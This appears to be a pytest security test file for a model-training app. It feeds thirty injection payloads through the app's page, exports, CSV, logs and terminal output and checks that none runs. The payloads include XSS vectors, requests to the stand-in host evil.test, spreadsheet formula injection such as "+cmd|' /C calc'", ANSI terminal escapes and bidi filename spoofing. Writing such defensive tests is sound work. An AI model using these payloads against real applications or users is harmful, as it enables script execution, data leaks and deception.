"""Thirty payloads in every name and text that reaches a page, a file or a terminal: none runs, no machine is asked.

The page is opened without its Content-Security-Policy, so that escaping alone is what holds. Every payload that runs
says so by calling `pwned`, or by asking evil.test for something.
"""

import contextlib
import csv
import io
import json
import re
import shutil
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
from conftest import drop_on, photo, quick, shrink_pictures, watch
from PIL import Image
from sites import load_path, served, tab

from tlapp import cli, dataset, export, figures, history, jobs, journal, runs
from tlapp.ui import division, pieces

__all__ = ["served"]

PAYLOADS = (
    "<script>pwned('script')</script>",
    "</title></style></textarea></script><script>pwned('closing')</script>",
    "<img src=x onerror=pwned('img')>",
    "<img src=http://evil.test/a.png>",
    '"><img src=x onerror=pwned(1)>',
    "'><svg/onload=pwned(2)>",
    '" onmouseover="pwned(3)" autofocus onfocus="pwned(4)" x="',
    "' onfocus='pwned(5)' autofocus tabindex=1 x='",
    "<svg><animate onbegin=pwned(6) attributeName=x dur=1s>",
    "<svg><image href='http://evil.test/b.png'/></svg>",
    "<iframe srcdoc=\"<script>parent.pwned('frame')</script>\"></iframe>",
    "<details open ontoggle=pwned(7)>",
    "<style>*{background:url(http://evil.test/c.png)}</style>",
    "red;background:url(http://evil.test/d.png)",
    "<link rel=stylesheet href=http://evil.test/e.css>",
    "<base href=http://evil.test/><meta http-equiv=refresh content='0;url=http://evil.test/f'>",
    "<form action=http://evil.test/g><input autofocus onfocus=pwned(8)>",
    "javascript:pwned('address')",
    "data:text/html,<script>opener.pwned(9)</script>",
    "![x](http://evil.test/h.png) [y](javascript:pwned(10)) <http://evil.test/i>",
    "**bold** `code` # head | cell | ~~gone~~",
    "$\\frac{1}{0}$ $_{^ \\href{javascript:pwned(11)}{x}$ a_$",
    "${pwned('template')} {{pwned('mustache')}} <%= pwned(12) %> #{pwned(13)} {0} %s",
    "=HYPERLINK('http://evil.test/j','x')",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|x",
    "@SUM(1)",
    "\t=1+1\r\nX-Set: 1",
    "\x1b[31mred\x1b]0;pwned\x07\x1b]8;;http://evil.test/\x1b\\ansi\x9b2J\r\n\u2028\u2029",
    "\u202egnp.\u2066exe\u200f &lt;img src=x onerror=pwned(14)&gt; &#60;b&#62; %3Cscript%3E",
)
WATCH = """
window.pwnedBy = [];
window.pwned = (by) => window.pwnedBy.push(String(by));
for (const name of ['alert', 'confirm', 'prompt', 'open']) window[name] = () => window.pwned(name);
"""
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def file_name(payload, end):
    """A payload as a name of a file: with another stroke than that of paths, and not too long."""
    return re.sub(r"[\x00-\x1f\x7f-\x9f]", "", payload).replace("/", "\u2215").replace("\\", "")[:60].strip(". ") + end


def as_label(payload):
    """As it can stand in a cell of a CSV of labels: on one line."""
    return " ".join(payload.split())


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A workspace whose names are payloads: the source, its sub-folders and files, classes, a run's name and note."""
    root = tmp_path_factory.mktemp("hostile")
    source = root / file_name(PAYLOADS[2], "")
    rows = [("file", "label", "split")]
    for number, payload in enumerate(PAYLOADS):
        for n, side in enumerate(("train", "val", "test")):
            path = source / file_name(payload, "") / f"{n}{file_name(payload, '.png')}"
            photo(path, (7 * number, 255 - 7 * number, 60 * n), 100 * number + n)
            rows.append((path.relative_to(source).as_posix(), as_label(payload), side))
        broken = source / file_name(payload, "") / f"broken{file_name(payload, '.jpg')}"
        broken.write_text("no photo")
        rows.append((broken.relative_to(source).as_posix(), as_label(payload), "train"))
    with open(source / "labels.csv", "w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(rows)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("TLAPP_HOME", str(root / "home"))
        shrink_pictures(patch)
        data = dataset.scan(source, home=root / "home")
        run = jobs.start(data, quick(data, epochs=1, head_rate=0.05), root / "home")
        watch(run)
        history.describe(run, " ".join(PAYLOADS[:2])[:80], "\n".join(PAYLOADS)[: history.MOST_NOTE])
        shutil.copytree(run.path, run.path.with_name("0002-aaaaaa"))
        shutil.copytree(run.path, run.path.with_name(runs.TRASH) / "0003-bbbbbb")
        bundle = export.export(run, root / "bundle", web=True).path
        return root, source, data, run, bundle


@pytest.fixture
def own(hostile, home, monkeypatch):
    """A copy of that workspace for the test."""
    root, source, data, run, bundle = hostile
    shutil.copytree(root / "home", home, dirs_exist_ok=True)
    shrink_pictures(monkeypatch)
    return source, dataset.load(home / "datasets" / data.id), runs.Run(home / "runs" / run.id), bundle


@pytest.fixture
def bare(browser, request):
    """A page without any policy. By its end no payload has run and nothing but the server was asked."""
    context = browser.new_context(bypass_csp=True, service_workers="block", viewport={"width": 1280, "height": 800})
    context.set_default_timeout(60_000)
    context.add_init_script(WATCH)
    wrong = []
    context.on("request", lambda asked: "evil.test" in asked.url and wrong.append(asked.url))
    context.on("dialog", lambda dialog: wrong.append(dialog.message) or dialog.dismiss())
    page = context.new_page()
    yield page
    for one in context.pages:
        for frame in one.frames:
            wrong += frame.evaluate("window.pwnedBy ?? []")
    context.close()
    assert not wrong


def test_the_payloads_do_run_where_nothing_holds_them(browser):
    """Else what follows would show nothing."""
    context = browser.new_context(bypass_csp=True)
    context.add_init_script(WATCH)
    page, asked = context.new_page(), []
    page.on("request", lambda request: asked.append(request.url))
    page.route("**/*", lambda route: route.fulfill(body="", content_type="text/html"))
    page.goto("http://localhost/")
    for payload in (one for one in PAYLOADS if "refresh" not in one):  # that one leaves the page
        page.evaluate("(text) => document.body.insertAdjacentHTML('beforeend', text)", payload)
        page.evaluate("(text) => document.body.insertAdjacentHTML('beforeend', `<p title=\"${text}\">x</p>`)", payload)
    page.wait_for_timeout(300)
    assert {"img", "1", "7", "frame"} <= set(page.evaluate("window.pwnedBy"))
    assert len([url for url in asked if "evil.test" in url]) >= 3
    context.close()


def test_no_name_runs_on_any_panel_of_the_page(own, served, bare, tmp_path):
    source, _, run, _ = own
    bare.goto(served.url)
    bare.locator("#drop .tl-drop[data-state=ready]").wait_for()
    load_path(bare, f"{tmp_path}/{PAYLOADS[2]}\x1b[31m")
    bare.locator("#reading-progress .tl-error").wait_for()
    load_path(bare, source)
    bare.locator(".tl-class").nth(29).wait_for()
    shown = bare.locator(".tl-class .tl-name").all_inner_texts()
    assert {"<img src=x onerror=pwned('img')>", "@SUM(1)"} <= set(shown)
    bare.locator(".tl-details summary").first.click()
    bare.locator("#change > button").click()
    bare.locator("#class-out input").click()
    bare.get_by_role("option").nth(20).wait_for()
    bare.keyboard.press("Escape")
    bare.locator("#where > button").click()
    bare.locator("#where img").first.wait_for()
    bare.locator("#check-photos").click()
    bare.locator("#check-verdict", has_text="looked at in").wait_for()
    tab(bare, "2 Train")
    bare.locator("#train:not([disabled])").wait_for()
    tab(bare, "3 Results")
    bare.locator("#score .tl-score").wait_for()
    bare.locator(".tl-confusion td button").first.click()
    bare.locator("#cell .tl-card").first.click()
    bare.locator("#why dialog[open]").wait_for()
    bare.keyboard.press("Escape")
    bare.locator(f"#runs tr[data-run='{run.id}'] button").click()
    bare.locator("#run-name input, #run-name textarea").first.wait_for()
    bare.locator("#compare-with input").click()
    bare.get_by_role("option").first.click()
    bare.locator("#compared table, #compared .tl-notice").first.wait_for()
    bare.locator("#disk > button").click()
    bare.locator("#disk-items summary").first.click()
    assert "<script>pwned('script')</script>" in bare.locator("#disk-items").inner_text()
    bare.locator("#pick-run input").click()
    bare.get_by_role("option").first.wait_for()
    bare.keyboard.press("Escape")
    tab(bare, "4 Test")
    bare.locator("#try-test-photo:not([disabled])").click()
    bare.locator(".tl-answer .tl-label").wait_for()
    folder = tmp_path / "new"
    for number, payload in enumerate(PAYLOADS[:14]):
        photo(folder / file_name(payload, f"{number}.png"), (9 * number, 80, 200), 9000 + number)
    (folder / file_name(PAYLOADS[2], ".jpg")).write_text("no photo")
    drop_on(bare.locator("#photos .tl-drop"), folder)
    bare.locator(".tl-answers", has_text="13.png").wait_for()
    bare.locator(".tl-answers .tl-card, .tl-answers button").first.click()
    with bare.expect_download() as saved:
        bare.locator("#answers-csv").click()
    check_csv(Path(saved.value.path()).read_text(encoding="utf-8-sig"))
    for payload in PAYLOADS:
        said = pieces.notice("error", payload, more=pieces.table([payload], [[payload]], payload))
        bare.evaluate("(html) => document.body.insertAdjacentHTML('beforeend', html)", said)
        bare.evaluate("(text) => window.tlSay(text)", pieces.text(payload))
    bare.wait_for_timeout(300)


def test_ids_that_a_browser_kept_and_a_zip_and_its_folders_are_names_too(home, small_pictures, served, bare, tmp_path):
    bare.goto(served.url)
    bare.locator("#drop .tl-drop[data-state=ready]").wait_for()
    bare.evaluate(
        "texts => texts.forEach((t, i) => localStorage.setItem(['tlapp-dataset', 'tlapp-run'][i], t))", PAYLOADS[2:4]
    )
    bare.reload()
    bare.locator("#drop .tl-drop[data-state=ready]").wait_for()
    path = tmp_path / file_name(PAYLOADS[2], ".zip")
    with zipfile.ZipFile(path, "w") as archive:
        for number, payload in enumerate(PAYLOADS):
            for n in range(2):
                one = photo(tmp_path / f"{number}.png", (7 * number, 99, 60 * n), 7000 + 100 * number + n)
                inside = f"{file_name(payload, '')}/{n}{file_name(payload, '.png')}"
                archive.write(one, inside)
    drop_on(bare.locator("#drop .tl-drop"), path)
    bare.locator(".tl-class").nth(15).wait_for()
    bare.locator(".tl-details summary").first.click()  # names that no zip may have, and why
    bare.wait_for_timeout(300)


# --- files


class Tags(HTMLParser):
    """The tags of a piece of HTML, and their attributes that could do anything."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.active = set(), []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.active += [one for one in attrs if one[0].startswith("on") or "evil.test" in (one[1] or "")]


def check_csv(text):
    """Each row is whole, and no cell is a formula or has a control character."""
    rows = list(csv.reader(io.StringIO(text)))
    assert len({len(row) for row in rows}) == 1
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "@", "\t", "\r"))
        assert not cell.startswith(("+", "-")) or re.fullmatch(r"-?[\d.e+-]+", cell)
        assert not re.search("[\x00-\x1f\x7f-\x9f]", cell), cell


def test_tables_cards_and_pages_for_others_show_names_literally(own):
    _, data, run, bundle = own
    check_csv(division.to_csv(data, run.plan.split(data)))
    text = (bundle / "MODEL_CARD.md").read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)<(?!br>)|(?<!\\)!\[(?!Confusion)|(?<!\\|!)\[[^\]]*(?<!\\)\]\(", text)
    assert not CONTROL.search(text)
    page = (bundle / "index.html").read_text(encoding="utf-8")
    assert not Tags(page).active
    assert page.lower().count("</script") == page.lower().count("<script")
    for path in bundle.glob("*.json"):
        assert not CONTROL.search(path.read_text(encoding="ascii"))
        json.loads(path.read_bytes())


def test_the_exported_page_runs_none_of_its_names(own, bare):
    *_, bundle = own
    bare.goto((bundle / "index.html").as_uri())
    bare.locator("body[data-state=ready]").wait_for()


def test_figures_draw_names_and_do_not_read_them(own, tmp_path):
    _, _, run, _ = own
    figures.confusion(np.array(run.report()["confusion"]), run.classes, tmp_path / "confusion.png")
    with Image.open(tmp_path / "confusion.png") as drawn:
        assert min(drawn.size) > 600


def test_the_log_has_one_harmless_line_for_each_fault_that_names_one(own, home):
    for payload in PAYLOADS:
        journal.note("fault", home, error=payload, where=payload, traceback=f"Traceback:\n{payload}")
    lines = journal.path(home).read_text(encoding="ascii").splitlines()
    told = [line for line in map(json.loads, lines) if line["event"] == "fault"]
    assert len(told) == len(PAYLOADS)
    for line in told:
        assert not CONTROL.search(line["error"] + line["where"] + line["traceback"].replace("\n", ""))


def test_a_terminal_is_sent_no_control_characters(own, capsys):
    source, _, run, _ = own
    for words in (["runs"], ["runs", "--json"], ["clean"], ["runs", "show", run.id], ["predict", run.id, str(source)],
                  ["evaluate", run.id], ["predict", run.id, PAYLOADS[28]], ["runs", "name", run.id, *PAYLOADS[28:29]],
                  ["train", PAYLOADS[28]], [PAYLOADS[28]]):  # fmt: skip
        with contextlib.suppress(SystemExit):
            cli.main(words)
        out, err = capsys.readouterr()
        assert not CONTROL.search(out.replace("\r\n", "\n")), words
        assert not CONTROL.search(err.replace("\r\n", "\n")), words
